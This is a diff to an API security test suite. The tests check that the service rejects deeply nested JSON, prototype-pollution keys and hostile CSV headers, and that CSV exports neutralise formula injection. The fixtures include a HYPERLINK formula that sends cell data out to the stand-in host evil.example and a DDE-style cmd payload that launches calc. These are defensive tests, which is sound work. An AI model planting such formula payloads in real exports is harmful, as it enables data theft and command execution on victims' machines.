@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { parseCsv } from '../../worker/src/lib/csv';
 import { CLIENT_HEADERS, SERVER_HEADERS, api, call, eventually, json, bytes } from './helpers';
 
-// Security review F17, F18, F19, F22 (findings/security-review.md): hostile input gets a 4xx that
+// Hostile input (odd CSV headers, deep nesting, formulas, broken text) gets a 4xx that
 // names the place, never a 500 and never a silent change; exports never carry a live formula.
 
 const utf8 = (text: string) => new TextEncoder().encode(text);
@@ -52,7 +52,7 @@ async function importAction(res: Response): Promise<any> {
 
 const nested = (levels: number): unknown => (levels === 0 ? 'leaf' : { n: nested(levels - 1) });
 
-describe('JSON bodies: nesting (F18)', () => {
+describe('JSON bodies: nesting past what SQLite parses', () => {
   it('metadata 1,500 levels deep is a 400 naming the path on the public events route and the customers API, not a 500', async () => {
     const deep = `${'['.repeat(1500)}${']'.repeat(1500)}`;
     const event = await call('/client/v1/events', {
@@ -79,7 +79,7 @@ describe('JSON bodies: nesting (F18)', () => {
   });
 });
 
-describe('JSON bodies: prototype keys, lone surrogates, bytes that are not UTF-8 (F22)', () => {
+describe('JSON bodies: prototype keys, lone surrogates, bytes that are not UTF-8', () => {
   it.each([
     ['a metadata key __proto__ (zod dropped it silently)', '{"source_id":"proto-1","metadata":{"__proto__":{"admin":true},"tier":"gold"}}', 'metadata.__proto__'],
     ['a metadata key constructor', '{"source_id":"proto-2","metadata":{"constructor":"x"}}', 'metadata.constructor'],
@@ -193,7 +193,7 @@ describe('query strings and filters: prototype keys and bad percent-encoding', (
   });
 });
 
-describe('CSV import: hostile headers and encodings (F17, F22)', () => {
+describe('CSV import: hostile headers and encodings', () => {
   it.each(['constructor', '__proto__', 'prototype'])('a column named %s is a 400 naming the column (was a 500), and nothing is written', async (name) => {
     const before = await actions();
     const details = await expectError(await importCsv(`Source_id,${name}\nctor-1,x\n`), 400, 'invalid_payload');
@@ -296,19 +296,19 @@ describe('CSV import: hostile headers and encodings (F17, F22)', () => {
   });
 });
 
-describe('exports neutralise formulas (F19)', () => {
-  // A public client could create such customers through POST /client/v1/events (F19's repro);
+describe('exports neutralise formulas', () => {
+  // A public client could create such customers through POST /client/v1/events with the public key;
   // the server API stores the same values.
   const hostile: [string, string][] = [
-    ['f19-hyperlink', '=HYPERLINK("http://evil.example/?"&A2,"Click for refund")'],
-    ['f19-plus', '+1+cmd|" /C calc"!A0'],
-    ['f19-minus', '-1+2'],
-    ['f19-at', '@SUM(1,2)'],
-    ['f19-tab', '\tindented'],
-    ['f19-cr', '\rreturn'],
-    ['f19-quoted', "'=already quoted"],
-    ['f19-negative', '-42.5'],
-    ['f19-plain', 'Plain name'],
+    ['formula-hyperlink', '=HYPERLINK("http://evil.example/?"&A2,"Click for refund")'],
+    ['formula-plus', '+1+cmd|" /C calc"!A0'],
+    ['formula-minus', '-1+2'],
+    ['formula-at', '@SUM(1,2)'],
+    ['formula-tab', '\tindented'],
+    ['formula-cr', '\rreturn'],
+    ['formula-quoted', "'=already quoted"],
+    ['formula-negative', '-42.5'],
+    ['formula-plain', 'Plain name'],
   ];
 
   async function download(parameters: Record<string, unknown>): Promise<string[][]> {
@@ -319,27 +319,27 @@ describe('exports neutralise formulas (F19)', () => {
     const text = await (await call(pathname + search)).text();
     return [...parseCsv(text)].map((r) => r.fields as string[]);
   }
-  const filters = { junction: 'and', source_id: { conditions: { $starts_with: ['f19-'] } } };
+  const filters = { junction: 'and', source_id: { conditions: { $starts_with: ['formula-'] } } };
   const fields = ['source_id', 'name', 'metadata.note'];
 
   it("prefixes cells that start with = + - @ tab or CR with ' by default (a negative number stays a number)", async () => {
     for (const [source_id, value] of hostile) {
       // The negative number is stored as a number in metadata, as an import of it would type it.
-      const note = source_id === 'f19-negative' ? Number(value) : value;
+      const note = source_id === 'formula-negative' ? Number(value) : value;
       expect((await api('POST', '/v1/customers', { source_id, name: value, metadata: { note } })).status).toBe(200);
     }
     const rows = await download({ order: 'created_at', fields, filters });
     expect(rows[0]).toEqual(fields);
     const expected: Record<string, string> = {
-      'f19-hyperlink': `'=HYPERLINK("http://evil.example/?"&A2,"Click for refund")`,
-      'f19-plus': `'+1+cmd|" /C calc"!A0`,
-      'f19-minus': `'-1+2`,
-      'f19-at': `'@SUM(1,2)`,
-      'f19-tab': `'\tindented`,
-      'f19-cr': `'\rreturn`,
-      'f19-quoted': `''=already quoted`,
-      'f19-negative': '-42.5',
-      'f19-plain': 'Plain name',
+      'formula-hyperlink': `'=HYPERLINK("http://evil.example/?"&A2,"Click for refund")`,
+      'formula-plus': `'+1+cmd|" /C calc"!A0`,
+      'formula-minus': `'-1+2`,
+      'formula-at': `'@SUM(1,2)`,
+      'formula-tab': `'\tindented`,
+      'formula-cr': `'\rreturn`,
+      'formula-quoted': `''=already quoted`,
+      'formula-negative': '-42.5',
+      'formula-plain': 'Plain name',
     };
     for (const [source_id, name, note] of rows.slice(1)) {
       expect(name).toBe(expected[source_id as string]);
@@ -374,7 +374,7 @@ describe('exports neutralise formulas (F19)', () => {
     for (const [source_id, value] of hostile) {
       const customer = await json(await api('GET', `/v1/customers/${source_id}`));
       expect(customer.name).toBe(value);
-      expect(customer.metadata.note).toEqual(source_id === 'f19-negative' ? Number(value) : value);
+      expect(customer.metadata.note).toEqual(source_id === 'formula-negative' ? Number(value) : value);
     }
   });
 });
